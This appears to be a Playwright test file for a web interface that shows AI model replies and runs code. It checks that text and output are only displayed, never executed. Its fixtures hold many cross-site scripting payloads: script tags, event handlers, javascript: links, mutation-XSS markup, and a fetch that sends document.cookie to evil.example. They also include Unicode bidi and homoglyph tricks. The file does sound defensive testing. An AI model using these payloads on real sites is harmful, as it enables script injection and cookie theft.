"""What models say, what code prints, shows and names: none of it ever runs as the page."""

import json

from playwright.sync_api import expect
from tests.server.page.conftest import ask, run_block

STEAL = "document.documentElement.dataset.stolen=1"
TAG = f"<img src=x onerror={STEAL}>"
MARKDOWN = f"""\
# Hello {TAG}

<script>{STEAL}</script><svg onload={STEAL}><script>{STEAL}</script></svg>
<iframe srcdoc="<script>parent.{STEAL}</script>"></iframe>
<div style="position:fixed;inset:0" onclick={STEAL}>over</div>
<form action="https://evil.example"><button>go</button></form>
<math><mtext></form><form><mglyph><style></math>{TAG}

[a](javascript:{STEAL}) [b](data:text/html,<script>{STEAL}</script>) [c](vbscript:x) [d](JaVaScRiPt:{STEAL})

![pixel](https://evil.example/pixel.png) ![x](javascript:x) ![y](//evil.example/y.png)

```"><script>{STEAL}</script>
{TAG}
```

The end of it.
"""
SHOWS = f"""\
import pandas as pd
from IPython.display import HTML, SVG, Markdown, display
bad = {TAG!r}
print(bad)
print('\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')
display(HTML('<p id=shown>shown</p><script>'
  'try {{ parent.{STEAL} }} catch (error) {{}}'
  'try {{ top.location = "https://evil.example" }} catch (error) {{}}'
  'try {{ fetch("https://evil.example/" + document.cookie) }} catch (error) {{}}'
  'fetch("https://evil.example/").catch(() => 0);'
  'document.body.append("ran alone");'
  '</script><img src="https://evil.example/p.png">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{STEAL}">'
  '<script>{STEAL}</script><image href="https://evil.example/i.png"/></svg>'))
display(Markdown(bad + ' told'))
display(pd.DataFrame({{bad: [bad, 1]}}))
globals()[bad] = 1
frame = pd.DataFrame({{bad: [bad]}})
open('<b>' + 'name' * 3 + '.txt', 'w').close()
raise ValueError(bad)"""


def stolen(page):
    return page.evaluate("document.documentElement.dataset.stolen")


def test_what_a_model_says_is_only_text(visit):
    page = visit(MARKDOWN, "Two.").page()
    ask(page, f"{TAG} <script>{STEAL}</script>")
    expect(page.get_by_text("The end of it.", exact=True)).to_be_visible()
    expect(page.locator(".said")).to_contain_text(TAG)
    prose = page.locator(".prose")
    assert prose.locator("script, iframe, svg, form, style, [style], [onclick]").count() == 0
    hrefs = prose.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert hrefs == ["https://evil.example/pixel.png"]
    assert page.locator("header h1").inner_text().startswith("<img")  # the title of the session
    assert stolen(page) is None


def test_what_code_shows_runs_nowhere_but_in_a_frame_of_its_own(visit):
    someone = visit({"code": SHOWS}, "Shown.")
    page = someone.page()
    ask(page, "Show.")
    run_block(page)
    expect(page.get_by_text("Shown.", exact=True)).to_be_visible()
    frame = page.frame_locator("iframe.frame").first
    expect(frame.locator("body")).to_contain_text("ran alone")
    box = page.locator("iframe.frame").first
    assert box.get_attribute("sandbox") == "allow-scripts"
    expect(page.locator(".output").first).to_contain_text(TAG)
    expect(page.locator(".summary")).to_contain_text("<img")
    page.get_by_role("button", name="Files", exact=True).click()
    expect(page.get_by_role("complementary")).to_contain_text("<b>namenamename.txt")
    page.get_by_role("tab", name="Variables").click()
    expect(page.locator(".variables")).to_contain_text(TAG)
    page.locator(".variables").get_by_role("button", name="frame").click()
    expect(page.get_by_role("dialog").locator("th")).to_contain_text(TAG)
    assert stolen(page) is None
    assert page.url.startswith(someone.url)
    # The frame tried to reach out, and its policy kept it from doing so.
    assert not [fault for fault in someone.faults if fault.startswith("request")]
    someone.faults.clear()


def test_code_is_shown_one_to_one_before_it_runs(visit):
    page = visit({"code": "x = 1  # \u202eevil\u202c\nadmin_\u0430 = 2\t "}, "Done.").page()
    ask(page, "Go.")
    expect(page.get_by_role("group", name="May this run?")).to_be_visible()
    assert page.locator(".code .line").all_inner_texts() == [
        "x = 1  # ⟨U+202E⟩evil⟨U+202C⟩\n",
        "admin_⟨U+0430⟩ = 2⇥┄┄┄␠\n",
    ]


def test_the_token_leaves_the_address_and_no_script_can_read_the_cookie(visit):
    page = visit("Hi.").page()
    assert "token" not in page.url
    assert page.evaluate("document.cookie") == ""
    assert json.loads(page.evaluate("JSON.stringify(Object.keys(localStorage))")) == []
